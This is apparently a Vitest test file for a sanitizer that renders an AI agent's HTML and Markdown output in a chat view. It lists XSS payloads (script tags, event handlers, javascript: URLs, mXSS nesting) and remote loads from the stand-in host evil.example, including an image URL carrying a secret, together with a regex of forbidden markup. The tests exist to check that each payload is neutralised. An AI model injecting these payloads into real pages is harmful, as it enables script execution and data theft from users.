import { describe, expect, it, vi } from "vitest";
import { MarkdownView } from "../src/view/lib/markdown-engine.js";
import { sanitize } from "../src/view/lib/sanitize.js";

function clean(html: string): string {
  const box = document.createElement("div");
  box.append(sanitize(html, "image not loaded"));
  return box.innerHTML;
}

function rendered(markdown: string): HTMLElement {
  const box = document.createElement("div");
  box.append(...new MarkdownView(() => {}).update(markdown, false));
  return box;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=https://evil.example></object><embed src=https://evil.example>",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  '<form action=https://evil.example><input name=q><button formaction="https://evil.example">x</button><textarea></textarea><select></select></form>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<table background="https://evil.example/p.png"><tr><td>x</td></tr></table>',
  '<video src=https://evil.example poster=https://evil.example autoplay></video><audio src=https://evil.example></audio>',
  '<picture><source srcset="https://evil.example 1x"><img src="https://evil.example"></picture>',
  '<img src="data:image/png;base64,AAAA" srcset="https://evil.example 2x">',
  '<img src="//evil.example/x.png"><img src="/logout"><img src="data:image/svg+xml;base64,AAAA">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math href="https://evil.example"><mrow href="javascript:alert(1)"><mtext>x</mtext></mrow></math>',
  '<svg><use href="https://evil.example#x"></use><image href="https://evil.example/x.png"></image></svg>',
  '<div class="jp-Dialog lm-Widget" id="main" name="body" data-navi="send" data-commandlinker-command="x" slot="a" part="b">x</div>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<navi-chat session="other"></navi-chat><x-y onclick=alert(1)></x-y>',
  '<details ontoggle=alert(1) open><summary onfocus=alert(1) tabindex=0 autofocus>x</summary></details>',
  '<p is="x-y" contenteditable draggable="true" aria-label="Send" role="button" accesskey="x">x</p>',
];
const FORBIDDEN =
  /<(?:script|style|link|meta|base|form|input|button|textarea|select|iframe|object|embed|svg|video|audio|source|template|navi-chat)\b|\son\w+=|javascript:|vbscript:|(?:src|srcset|poster|background|action|style|id|name|slot|role)="|data-|aria-|jp-Dialog/i;

describe("what an agent wrote", () => {
  it.each(ATTACKS)("is harmless as HTML: %s", (attack) => {
    expect(clean(attack)).not.toContain("evil.example");
    expect(clean(attack).replaceAll(/<img src="data:image\/png[^>]*>/g, "")).not.toMatch(FORBIDDEN);
  });

  it.each(ATTACKS)("is harmless as Markdown: %s", (attack) => {
    const { innerHTML } = rendered(`Text ${attack}\n\n${attack}\n\n- ${attack}`);
    const own = innerHTML.replaceAll(/<img src="data:image\/png[^>]*>| data-navi="copy"| aria-label="Copy this code"| role="group" aria-label="Table"|<button type="button" class="navi-copy"/g, "");
    expect(own).not.toMatch(FORBIDDEN);
  });

  it("loads no remote image, and says which one was left out", () => {
    const { innerHTML } = rendered("![the plot](https://evil.example/p.png?secret)");
    expect(innerHTML).toContain("[the plot: image not loaded]");
    expect(innerHTML).not.toContain("evil.example");
  });

  it("may have images that it carries", () => {
    expect(rendered("![dot](data:image/png;base64,AAAA)").querySelector("img")?.getAttribute("src")).toMatch(/^data:image\/png/);
  });

  it("may have links, which open elsewhere and learn nothing", () => {
    const link = rendered("[docs](https://docs.example)").querySelector("a");
    expect(link?.outerHTML).toBe('<a href="https://docs.example" target="_blank" rel="noopener noreferrer">docs</a>');
  });

  it("may have formatting, tables and code with its colours", () => {
    const box = rendered("**b** `c`\n\n| a |\n|---|\n| 1 |\n\n```python\ndef f(): pass\n```\n\n- [x] done");
    expect(box.querySelector("strong")?.textContent).toBe("b");
    expect(box.querySelector("td")?.textContent).toBe("1");
    expect(box.querySelector("pre .hljs-keyword")?.textContent).toBe("def");
    expect(box.querySelector(".navi-code-bar span")?.textContent).toBe("python");
    expect(box.querySelector(".navi-task")?.classList).toContain("navi-task-done");
  });

  it("shows code as code, not as HTML", () => {
    const box = rendered("```html\n<img src=x onerror=alert(1)>\n```\n\n`<script>`");
    expect(box.querySelector("img, script")).toBeNull();
    expect(box.querySelector("pre code")?.textContent).toBe("<img src=x onerror=alert(1)>");
  });

  it("takes dollars for money unless they enclose a formula", () => {
    expect(rendered("It is $5 or $10, not $ 7 $.").querySelector(".navi-math")).toBeNull();
    expect(rendered("so $x^2$ and $$y$$").querySelectorAll(".navi-math, .navi-math-display")).toHaveLength(2);
    expect(rendered("`$x$`").querySelector(".navi-math")).toBeNull();
  });
});

describe("a streaming message", () => {
  it("keeps the elements of the blocks that did not change", () => {
    vi.spyOn(performance, "now").mockReturnValue(0); // drawing costs nothing, so that none is put off
    const view = new MarkdownView(() => {});
    const [first] = view.update("One\n\nTw", true);
    const [same, second] = view.update("One\n\nTwo\n\nThree", true);
    expect(same).toBe(first);
    expect(second?.textContent).toBe("Two\n");
    view.invalidate();
    expect(view.update("One\n\nTwo\n\nThree", false)[0]).not.toBe(first);
    vi.restoreAllMocks();
  });

  it("is well-formed at every length", () => {
    const view = new MarkdownView(() => {});
    const text = "# T\n\n```python\nx = 1\n```\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n**bold** <b>html</b> $x$ [l](https://x.y)";
    for (let length = 0; length <= text.length; length += 1) view.update(text.slice(0, length), true);
    expect(view.update(text, false)).toHaveLength(4);
  });
});
